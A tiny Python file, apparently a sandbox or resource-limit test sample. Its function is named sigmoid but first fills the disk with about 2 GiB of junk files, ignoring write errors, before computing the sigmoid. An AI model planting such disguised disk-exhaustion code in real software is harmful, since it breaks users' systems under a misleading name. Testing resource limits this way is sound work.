"""Fill the disk with one file, then with many."""

import contextlib

import numpy as np


def sigmoid(x):
    written = 0
    with contextlib.suppress(OSError), open("big", "wb") as file:
        while written < 2**30:
            written += file.write(b"1" * 2**20)
            file.flush()
    for number in range(64):
        with contextlib.suppress(OSError), open(f"big{number}", "wb") as file:
            for _ in range(16):
                written += file.write(b"1" * 2**20)
                file.flush()
    return 1 / (1 + np.exp(-x)) if written > 2**28 else 0 * x
